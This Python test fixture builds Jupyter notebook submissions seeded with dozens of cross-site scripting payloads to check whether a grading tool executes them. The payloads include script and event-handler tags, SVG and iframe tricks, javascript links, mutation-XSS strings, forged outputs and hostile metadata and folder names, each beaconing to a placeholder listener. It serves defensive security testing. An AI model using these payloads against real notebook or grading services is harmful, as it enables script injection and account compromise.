"""Scripts, requests and traps where a student can put them: each calls `CALL`, a listener's address, when it is alive."""
# ruff: noqa: E501  (a payload is one text)

import json
from collections.abc import Callable
from itertools import cycle

import nbformat
from nbformat.notebooknode import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

Change = Callable[[NotebookNode], object]
HEAD = "#| export\n"
WRONG = "def scale(x, factor):\n    return [0.0]\n"
JS = "window.alive=1;void(new Image().src='CALL')"
PUBLISH = "get_ipython().display_pub.publish"
IMG = f'<img src=x onerror="{JS}">'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script></svg>'
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

# HTML that an answer displays, and that a written answer holds.
HTML = {
    "script": f"<script>{JS}</script>",
    "script-in-capitals": f"<ScRiPt >{JS}</sCrIpT >",
    "script-remote": "<script src='CALL'></script>",
    "image-onerror": IMG,
    "image-remote": "<img src='CALL'>",
    "image-srcset": "<img srcset='CALL 1x'>",
    "svg-onload": f'<svg onload="{JS}"></svg>',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{JS}"/><text y=9>x</text></a></svg>',
    "svg-image": "<svg><image href='CALL'/></svg>",
    "svg-use": "<svg><filter id=f><feImage href='CALL'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "iframe-srcdoc": f"<iframe srcdoc='{IMG.replace(chr(39), '&apos;')}'></iframe>",
    "iframe-javascript": f'<iframe src="javascript:parent.{JS}"></iframe>',
    "iframe-data": f'<iframe src="data:text/html,<script>{JS}</script>"></iframe>',
    "iframe-remote": "<iframe src='CALL'></iframe>",
    "object": "<object data='CALL'></object>",
    "embed": "<embed src='CALL'>",
    "video": f'<video src=x onerror="{JS}" poster="CALL"></video>',
    "meta-refresh": "<meta http-equiv=refresh content='0;url=CALL'>",
    "base": "<base href='CALL/'><img src=base>",
    "stylesheet": "<link rel=stylesheet href='CALL'>",
    "style-import": "<style>@import url(CALL);</style>",
    "style-background": "<div style='height:9px;background:url(CALL)'>x</div>",
    "style-escaped": r"<div style='height:9px;background:u\72l(CALL)'>x</div>",
    "style-image-set": "<div style=\"height:9px;background:image-set('CALL' 1x)\">x</div>",
    "link-javascript": f'<a href="javascript:{JS}">x</a>',
    "link-with-tab": f'<a href="java&#9;script:{JS}">x</a>',
    "link-handler": f'<a href="#x" onclick="{JS}">x</a>',
    "form-javascript": f'<form action="javascript:{JS}"><button>x</button></form>',
    "button-handler": f'<button onclick="{JS}">x</button>',
    "autofocus": f'<input autofocus onfocus="{JS}">',
    "details": f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    "mouse": f'<p onmouseover="{JS}">x</p>',
    "tag-unclosed": f'<div onmouseover="{JS}" ',
    "comment-unclosed": f"<!--><img src=x onerror=\"{JS}\">-->",
    "noscript": f"<noscript><p title='</noscript>{IMG.replace(chr(39), '&apos;')}'></noscript>",
    "namespaces": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=&quot;{JS.replace(chr(39), '&apos;')}&quot;&gt;'>",
    "style-in-svg": f"<svg></p><style><a id='</style>{IMG.replace(chr(39), '&apos;')}'>",
    "template": f"<div><template shadowrootmode=open>{IMG}</template></div>",
}  # fmt: skip

# Other code in the answer `scale`.
CODE = {
    "repr-html": f"class Shown:\n    def _repr_html_(self):\n        return {IMG!r}\nShown()",
    "isolated": f"{PUBLISH}({{'text/html': {IMG!r}}}, {{'text/html': {{'isolated': True}}}})",
    "javascript": f"{PUBLISH}({{'application/javascript': {JS!r}}})",
    "javascript-end": f"{PUBLISH}({{'application/javascript': {'</script>' + IMG!r}}})",
    "svg": f"{PUBLISH}({{'image/svg+xml': {SVG!r}}})",
    "png-width": f"{PUBLISH}({{'image/png': {PIXEL!r}}}, {{'image/png': {{'width': {'1 onload=' + JS.replace('new ', 'new/**/')!r}}}}})",
    "png-name": f"{PUBLISH}({{'image/png': {PIXEL!r}}}, {{'filenames': {{'image/png': 'CALL'}}}})",
    "jpeg-name": f"{PUBLISH}({{'image/jpeg': {PIXEL!r}}}, {{'filenames': {{'image/jpeg': 'CALL'}}}})",
    "png-text": f"{PUBLISH}({{'image/png': {PIXEL + chr(34) + ' onload=' + chr(34) + JS!r}}})",
    "markdown": f"{PUBLISH}({{'text/markdown': {IMG!r}}})",
    "markdown-link": f"{PUBLISH}({{'text/markdown': {'[x](<javascript:' + JS + '>)'!r}}})",
    "latex": f"{PUBLISH}({{'text/latex': {'$x$' + IMG!r}}})",
    "mermaid": f"{PUBLISH}({{'text/vnd.mermaid': {IMG!r}}})",
    "pdf": f"{PUBLISH}({{'application/pdf': {IMG!r}, 'text/x-html': {IMG!r}}})",
    "widget": f"{PUBLISH}({{'application/vnd.jupyter.widget-view+json': {{'model_id': {'</script>' + IMG!r}}}}})",
    "stream": f"print({IMG!r})",
    "stream-colours": f"print('\\x1b[31m' + {IMG!r} + '\\x1b[0m\\x1b[38;2;1;2;3\">m')",
    "stream-link": f"print('\\x1b]8;;javascript:' + {JS!r} + '\\x07x\\x1b]8;;\\x07')",
    "warning": f"import warnings\nwarnings.warn({IMG!r})",
    "error-message": f"raise ValueError({IMG!r})",
    "error-name": f"raise type({IMG!r}, (Exception,), {{}})('x')",
    "error-lines": f"class Lines(Exception):\n    def _render_traceback_(self):\n        return [{IMG!r}]\nraise Lines('x')",
    "source": f"text = '''</pre></div></script>{IMG}<!--'''",
    "docstring": f"def scale(x, factor):\n    '''{IMG.replace(chr(39), chr(34))}'''\n    raise TypeError(scale.__doc__)",
    "printed-in-test": f"def scale(x, factor):\n    print({IMG!r})\n    return [0.0]",
    "warned-in-test": f"import warnings\ndef scale(x, factor):\n    warnings.warn({IMG!r})\n    return [2.0]",
    "raised-in-test": f"def scale(x, factor):\n    raise ValueError({IMG!r})",
    "class-in-test": f"Odd = type({IMG!r}, (Exception,), {{}})\ndef scale(x, factor):\n    raise Odd({IMG!r})",
    "repr-in-test": f"class Odd(float):\n    __repr__ = __str__ = lambda self: {IMG!r}\ndef scale(x, factor):\n    return [Odd(3)]",
    "displayed-in-test": f"def scale(x, factor):\n    {PUBLISH}({{'text/html': {IMG!r}}})\n    return [0.0]",
    "forged-stream": f"import sys\nsys.stdout.outputs.entries.append({{'output_type': 'stream', 'name': {IMG!r}, 'parts': [{IMG!r}]}})",
    "forged-data": f"import sys\nsys.stdout.outputs.entries.append({{'output_type': 'display_data', 'metadata': {{'filenames': {{'image/png': 'CALL'}}}}, 'data': {{'image/png': '', 'text/html': [{IMG!r}]}}}})",
}

# Other Markdown in the written answer.
WRITTEN = {
    "link": f"[x](<javascript:{JS}>)",
    "link-capitals": f"[x](<JaVaScRiPt:{JS}>)",
    "link-entity": f"[x](<&#106;avascript:{JS}>)",
    "link-data": f"[x](<data:text/html,<script>{JS}</script>>) [y](data:text/html,x)",
    "link-reference": f"[x][y]\n\n[y]: <javascript:{JS}>",
    "link-automatic": f"<javascript:{JS.replace(' ', '/**/')}>",
    "image": "![x](CALL)",
    "image-title": f'![x](x "&quot; onerror=&quot;{JS}")',
    "image-attachment": "![x](attachment:gone.png)",
    "formula": f"$x</span>{IMG}$ and $${IMG}$$",
    "environment": f"\\begin{{align}}</p>{IMG}\\end{{align}}",
    "formula-link": f"$\\href{{javascript:{JS}}}{{x}}$",
    "mermaid": f"```mermaid\n{IMG}\n```",
    "fence": f"```{IMG}\nx\n```",
    "fence-in-fence": f"``````\n```\n``````\n{IMG}\n```",
    "table": f"|a|b|\n|-|-|\n|{IMG}|x|",
    "heading": f"# x {IMG}",
    "deep": "> " * 300 + IMG,
    "long": "[" * 30_000 + IMG,
}


def _cells(grade_id: str, change: Change) -> Change:
    """Change the cell of that name."""

    def edit(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
                change(cell)

    return edit


def _attached(cell: NotebookNode) -> None:
    cell.attachments = {"a.png": {"image/png": f'{PIXEL}" onload="{JS}'}, "b.svg": {"image/svg+xml": SVG}}
    cell.source += "\n\n![x](attachment:a.png) ![x](attachment:b.svg)"


def _own_name(notebook: NotebookNode) -> None:
    managed = {"grade": False, "grade_id": f'">{IMG}', "locked": False, "schema_version": 3, "solution": True}
    notebook.cells.append(new_code_cell("x", metadata={"nbgrader": managed | {"task": False}}))


def _all_text(notebook: NotebookNode) -> None:
    """In every cell that is not an answer."""
    for cell in notebook.cells:
        if not cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "markdown":
            cell.source = IMG


# What is done to the file.
FILES: dict[str, Change] = {
    "title": lambda n: n.metadata.update(title=f"</title>{IMG}", authors=[{"name": IMG}]),
    "kernel": lambda n: n.metadata.update(kernelspec={"name": IMG, "display_name": IMG, "language": IMG}),
    "language": lambda n: n.metadata.update(language_info={"name": IMG, "pygments_lexer": IMG}),
    "widgets": lambda n: n.metadata.update(
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script>{IMG}"}}}
    ),
    "tags": _cells("scale", lambda cell: cell.metadata.update(tags=[f'">{IMG}'], alt=f'">{IMG}')),
    "cell-id": _cells("scale", lambda cell: cell.update(id=f'">{IMG}')),
    "grade-id": _own_name,
    "attachments": _cells("q-float32", _attached),
    "outputs-kept": _cells("scale", lambda cell: cell.update(outputs=[new_output("display_data", {"text/html": IMG})])),
    "test-replaced": _cells("test-scale", lambda cell: cell.update(source=f"'''{IMG}'''")),
    "question-replaced": _all_text,
    "own-text": lambda n: n.cells.append(new_markdown_cell(IMG)),
    "own-html": lambda n: n.cells.append(new_raw_cell(IMG, metadata={"raw_mimetype": "text/html"})),
}
# Names of folders, which hold no "/".
NAMES = [
    "eve<img src=x onerror=window.alive=1>",
    "eve' onmouseover='window.alive=1",
    'eve" onmouseover="window.alive=1" x="',
    "eve&lt;img src=x onerror=window.alive=1&gt;",
    "{{7*7}}${window.alive=1}",
]


def payloads() -> dict[str, tuple[dict[str, str], Change]]:
    """Every payload by name: what it adds to which answers, and what it does to the file."""
    found: dict[str, tuple[dict[str, str], Change]] = {
        f"code-{name}": ({"scale": text}, _nothing) for name, text in CODE.items()
    }
    found |= {f"html-{n}": ({"shift": f"{PUBLISH}({{'text/html': {text!r}}})"}, _nothing) for n, text in HTML.items()}
    found |= {f"written-{name}": ({"q-float32": text}, _nothing) for name, text in (HTML | WRITTEN).items()}
    return found | {f"file-{name}": ({}, change) for name, change in FILES.items()}


def submissions() -> dict[str, list[str]]:
    """The names of the payloads that each student hands in, dealt like cards: one in each answer, some more in a few."""
    hands: dict[str, list[str]] = {f"s{number:02d}": [] for number in range(len(CODE))}
    for kind in ("code-", "html-", "written-", "file-"):
        for student, name in zip(cycle(hands), filter(lambda name, kind=kind: name.startswith(kind), payloads())):
            hands[student].append(name)
    return hands


def submission(
    names: list[str], honest: dict[str, str], make: Callable[[dict[str, str]], NotebookNode], place: str
) -> str:
    """The file with some payloads in it; `make` fills answers into the release, `place` is where the listener is."""
    start = {"scale": HEAD + WRONG, "shift": honest["shift"], "q-float32": ""}
    answers = dict(honest)
    for name in names:
        for cell, text in payloads()[name][0].items():
            before = answers[cell] if answers[cell] != honest[cell] else start[cell]
            answers[cell] = f"{before}\n\n{text.replace('CALL', f'{place}/{name}')}".lstrip()
    notebook = make(answers)
    for name in names:
        payloads()[name][1](notebook)
        notebook = _called(notebook, f"{place}/{name}")
    return nbformat.writes(notebook)


def _nothing(notebook: NotebookNode) -> None:
    """The file stays as it is."""


def _called(notebook: NotebookNode, address: str) -> NotebookNode:
    return from_dict(json.loads(json.dumps(notebook).replace("CALL", address)))
